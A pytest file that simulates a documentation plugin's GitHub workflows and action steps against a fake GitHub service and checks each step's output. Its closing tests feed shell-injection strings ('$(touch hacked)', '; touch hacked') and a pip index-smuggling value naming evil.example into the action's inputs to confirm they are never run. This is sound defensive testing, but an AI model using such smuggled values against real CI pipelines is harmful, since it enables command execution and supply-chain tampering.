"""Every `run:` line of every workflow and of the action is run, and does what it is there for."""

from collections.abc import Callable, Iterator
from pathlib import Path
from shutil import copytree
from typing import Any

import pytest

from tests.builds import REPOSITORY
from tests.github import fake_github
from tests.github.fake_github import TOKEN, FakeGitHub
from tests.repository import git, save
from tests.workflows.machine import EXPRESSIONS, Machine, Ran
from tests.workflows.steps import Step, jobs

JOBS = {(file, job): steps for file, job, steps in jobs()}
FILES = {
    "mkdocs.yml": "site_name: Plans\nsite_url: !ENV [SITE_URL, '']\ntheme: {name: material, font: false}\n"
    "plugins: [search, strategy-handbook]\n",
    "docs/index.md": "# Plans\n",
    "requirements.txt": "mkdocs-strategy-handbook==0.1.0\n",
    ".gitignore": ".venv/\nsite/\n",
    "plans/plan.yml": "plan: {name: Riverbend, start: 2027-01-01, end: 2027-12-31}\n"
    "initiatives: {battery: {name: Battery, start: 2027-01-01, end: 2027-03-31}}\n"
    "campaigns:\n  spring: {name: Spring fleet trial, start: 2027-03-01, end: 2027-05-31}\n",
    # Something to find.
    "plans/empty.yml": "segments:\n",
}
PROPOSED = FILES["plans/plan.yml"].replace("2027-05-31}", "2027-06-14}")


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    with fake_github.running() as service:
        yield service


@pytest.fixture(scope="module")
def repository(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a checkout of the main branch, with a proposal merged beside it."""
    root = tmp_path_factory.mktemp("repository")
    save(root, FILES)
    git(root, "switch", "--quiet", "--create", "proposal")
    save(root, {"plans/plan.yml": PROPOSED})
    git(root, "switch", "--quiet", "main")
    save(root, {"plans/more.yml": "personas: {buyer: {name: Buyer}}\n"})
    git(root, "switch", "--quiet", "--create", "merged")
    git(root, "merge", "--quiet", "--no-edit", "proposal")
    git(root, "switch", "--quiet", "main")
    git(root, "update-ref", "refs/remotes/origin/main", "main")
    return root


@pytest.fixture
def checkout(repository: Path, tmp_path: Path) -> Path:
    """Return a copy of the checkout, to be changed."""
    return copytree(repository, tmp_path / "checkout")


def commit(root: Path, revision: str) -> str:
    return git(root, "rev-parse", revision).strip()


def push(root: Path) -> dict[str, Any]:
    return {"ref": "refs/heads/main", "repository": {"default_branch": "main"}}


def proposal(root: Path) -> dict[str, Any]:
    owner = {"owner": {"login": "somebody"}}
    return {
        "pull_request": {
            "number": 3,
            "head": {"sha": commit(root, "proposal"), "ref": "proposal", "repo": owner},
            "base": {"sha": commit(root, "main"), "ref": "main"},
        },
        "repository": {"default_branch": "main"},
    }


def run_of_review(root: Path) -> dict[str, Any]:
    about = {
        "id": 7,
        "event": "pull_request",
        "head_sha": commit(root, "proposal"),
        "head_branch": "proposal",
        "head_repository": {"owner": {"login": "somebody"}},
    }
    return {"workflow_run": about, "repository": {"default_branch": "main"}}


COMPARED_WITH = "github.base_ref && format('origin/{0}', github.base_ref)"
# For each job the event it is for, and the branch that is checked out then.
EVENTS: dict[tuple[str, str], tuple[Callable[[Path], dict[str, Any]], str]] = {
    ("check.yml", "check"): (proposal, "merged"),
    ("check.yml", "code-scanning"): (push, "main"),
    ("review.yml", "collect"): (proposal, "merged"),
    ("review-comment.yml", "comment"): (run_of_review, "main"),
    ("publish.yml", "build"): (push, "main"),
    ("publish.yml", "deploy"): (push, "main"),
    ("action.yml", ""): (push, "main"),
}


def made(machine: Machine, ran: Ran) -> None:
    assert list(machine.scratch.rglob("bin/handbook")) or (machine.checkout / ".venv/bin").is_dir()


def installed(machine: Machine, ran: Ran) -> None:
    assert machine.asked_of_pip[-1] == "install --disable-pip-version-check -r requirements.txt"


def annotated(machine: Machine, ran: Ran) -> None:
    assert ran.out.startswith("::warning file=plans/empty.yml,line=1,")


def built_for_files(machine: Machine, ran: Ran) -> None:
    handbook = machine.checkout / "handbook"
    page = (handbook / "plan/campaigns/spring.html").read_text("utf-8")
    assert "14 Jun" in page
    assert 'href="../../index.html"' in page
    assert (handbook / "search/search_index.js").is_file()
    # It marks what the proposal changes.
    assert "hb-proposal" in (handbook / "plan/index.html").read_text("utf-8")


def written(machine: Machine, ran: Ran) -> None:
    assert '"ruleId"' in (machine.checkout / "findings.sarif").read_text("utf-8")


def handed_over(machine: Machine, ran: Ran) -> None:
    [scan] = machine.github.scans
    assert scan["commit_sha"] == commit(machine.checkout, "main")
    assert scan["sarif"]["version"] == "2.1.0"


def collected(machine: Machine, ran: Ran) -> None:
    assert ran.out == "review.json: 0 added, 1 changed, 0 removed\n"
    assert "Spring fleet trial" in ran.summary
    # It has shown nobody a token, for it has none.
    assert machine.github.asked == []


def commented(machine: Machine, ran: Ran) -> None:
    assert ran.out.startswith("handbook: comment on pull request #3 written: https://github.test/")
    [body] = machine.github.bodies(3)
    assert "Spring fleet trial" in body


def built(machine: Machine, ran: Ran) -> None:
    page = (machine.checkout / "site/plan/campaigns/spring/index.html").read_text("utf-8")
    assert "31 May" in page
    assert "https://riverbend.github.test/plans/plan/campaigns/spring/" in page


def asked_for_what_is_pinned(machine: Machine, ran: Ran) -> None:
    assert machine.asked_of_pip[-1] == (
        "install --quiet --disable-pip-version-check --require-hashes "
        f"-r {REPOSITORY}/requirements/site.txt"
    )


def asked_for_itself(machine: Machine, ran: Ran) -> None:
    assert machine.asked_of_pip[-1] == (
        f"install --quiet --disable-pip-version-check --no-deps --no-build-isolation {REPOSITORY}"
    )


def checked(machine: Machine, ran: Ran) -> None:
    assert ran.out.startswith("::warning file=plans/empty.yml,line=1,")


# What each line must have come to. A line that is not here has no test, and fails.
EXPECTED: dict[tuple[str, str, str], Callable[[Machine, Ran], None]] = {
    ("check.yml", "check", "Make an environment"): made,
    ("check.yml", "check", "Install"): installed,
    ("check.yml", "check", "Check the plan"): annotated,
    ("check.yml", "check", "Build the handbook"): built_for_files,
    ("check.yml", "code-scanning", "Make an environment"): made,
    ("check.yml", "code-scanning", "Install"): installed,
    ("check.yml", "code-scanning", "Check the plan"): written,
    ("check.yml", "code-scanning", "Hand the findings over"): handed_over,
    ("review.yml", "collect", "Make an environment"): made,
    ("review.yml", "collect", "Install"): installed,
    ("review.yml", "collect", "Compare the plans"): collected,
    ("review-comment.yml", "comment", "Make an environment"): made,
    ("review-comment.yml", "comment", "Install"): installed,
    ("review-comment.yml", "comment", "Write the comment"): commented,
    ("publish.yml", "build", "Make an environment"): made,
    ("publish.yml", "build", "Install"): installed,
    ("publish.yml", "build", "Build the handbook"): built,
    ("action.yml", "", "Make an environment"): made,
    ("action.yml", "", "Install what it needs"): asked_for_what_is_pinned,
    ("action.yml", "", "Install the handbook"): asked_for_itself,
    ("action.yml", "", "Check the plan"): checked,
}


def test_every_line_has_a_test() -> None:
    lines = [step.key for steps in JOBS.values() for step in steps if step.run]
    assert sorted(lines) == sorted(EXPECTED)
    assert set(JOBS) == set(EVENTS)


def machine_for(
    file: str, job: str, scratch: Path, checkout: Path, github: FakeGitHub, **inputs: str
) -> Machine:
    event, branch = EVENTS[file, job]
    base = "origin/main" if event is proposal else ""
    known = {**EXPRESSIONS, COMPARED_WITH: base, **inputs_of(**inputs)}
    machine = Machine(scratch, checkout, github, event(checkout), known)
    git(checkout, "switch", "--quiet", branch)
    return machine


def inputs_of(**given: str) -> dict[str, str]:
    inputs = {
        "plans": "plans",
        "fail-on": "error",
        "as-of": "",
        "sarif": "",
        "version": "",
        **given,
    }
    version = inputs["version"]
    wanted = f"mkdocs-strategy-handbook=={version}" if version else str(REPOSITORY)
    return {
        **{f"inputs.{name}": value for name, value in inputs.items()},
        "inputs.version && format('mkdocs-strategy-handbook=={0}', inputs.version) "
        "|| github.action_path": wanted,
    }


def run_job(machine: Machine, steps: list[Step]) -> None:
    for step in steps:
        ran = machine.play(step)
        assert ran.status == 0, f"{step.key}\n{ran.out}\n{ran.err}"
        if step.run:
            EXPECTED[step.key](machine, ran)


@pytest.mark.parametrize(
    ("file", "job"), [key for key in JOBS if key != ("review-comment.yml", "comment")]
)
def test_a_job_runs(
    file: str, job: str, tmp_path: Path, checkout: Path, github: FakeGitHub
) -> None:
    run_job(machine_for(file, job, tmp_path / "machine", checkout, github), JOBS[file, job])


def test_a_proposal_of_a_fork_gets_its_comment(
    tmp_path: Path, checkout: Path, github: FakeGitHub
) -> None:
    github.pull(3, commit=commit(checkout, "proposal"), owner="somebody")
    for number, (file, job) in enumerate(
        [("review.yml", "collect"), ("review-comment.yml", "comment")]
    ):
        machine = machine_for(file, job, tmp_path / f"machine-{number}", checkout, github)
        run_job(machine, JOBS[file, job])
        # The second machine has nothing of the first but what it fetches.
        (checkout / "review.json").unlink(missing_ok=True)
    tokens = {one.token for one in github.asked}
    # Where artifacts lie is another host, which is shown no token.
    assert tokens == {TOKEN, ""}
    assert {one.path.split("/")[1] for one in github.asked if not one.token} == {"storage"}


def action_step(name: str) -> Step:
    return next(step for step in JOBS["action.yml", ""] if step.name == name)


@pytest.fixture
def action(
    tmp_path: Path, checkout: Path, github: FakeGitHub
) -> Callable[..., tuple[Machine, Callable[[str], Ran]]]:
    """Return a function that gives the action inputs, and another that runs a step of it by name."""

    def with_inputs(**inputs: str) -> tuple[Machine, Callable[[str], Ran]]:
        machine = machine_for("action.yml", "", tmp_path / "machine", checkout, github, **inputs)
        machine.play(action_step("Make an environment"))
        return machine, lambda name: machine.play(action_step(name))

    return with_inputs


def test_the_action_takes_its_inputs(action: Callable[..., Any]) -> None:
    inputs = {
        "plans": "plans",
        "fail-on": "warning",
        "as-of": "2030-01-01",
        "sarif": "out/a b.sarif",
    }
    machine, step = action(**inputs, version="0.1.0")
    step("Install the handbook")
    assert machine.asked_of_pip[-1].endswith(" mkdocs-strategy-handbook==0.1.0")
    ran = step("Check the plan")
    assert (ran.status, ran.err) == (1, "")
    assert (machine.checkout / "out/a b.sarif").is_file()


HOSTILE = [
    "plans; touch hacked",
    "$(touch hacked)",
    "`touch hacked`",
    '" && touch hacked && "',
    "plans\ntouch hacked",
    "--also=text:hacked",
    "-h",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("names", [("plans", "sarif"), ("fail-on", "as-of")])
def test_no_input_of_the_action_is_run(
    action: Callable[..., Any], names: tuple[str, str], text: str
) -> None:
    machine, step = action(**dict.fromkeys(names, text))
    ran = step("Check the plan")
    assert list(machine.checkout.rglob("hacked")) == []
    assert ran.status in (2, 3), ran


def test_no_version_is_an_option_of_pip(action: Callable[..., Any]) -> None:
    machine, step = action(version="1 --index-url=https://evil.example $(touch hacked)")
    step("Install the handbook")
    assert machine.asked_of_pip[-1].endswith(
        " mkdocs-strategy-handbook==1 --index-url=https://evil.example $(touch hacked)"
    )
    assert not (machine.checkout / "hacked").exists()
